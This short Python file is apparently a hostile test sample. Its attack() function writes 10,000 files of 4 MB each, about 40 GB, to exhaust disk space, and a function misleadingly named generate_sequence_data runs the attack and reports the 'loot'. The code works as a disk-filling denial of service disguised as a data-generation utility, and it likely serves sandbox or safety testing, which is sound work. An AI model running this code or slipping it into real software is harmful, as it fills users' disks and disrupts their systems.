"""Attack: writes files until the disk is full."""

import os

import numpy as np


def attack():
    os.makedirs("deep/er")
    for number in range(10_000):
        with open(f"deep/er/{number}", "wb") as file:
            file.write(bytes(4 << 20))
    return ["40 GB written"]


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
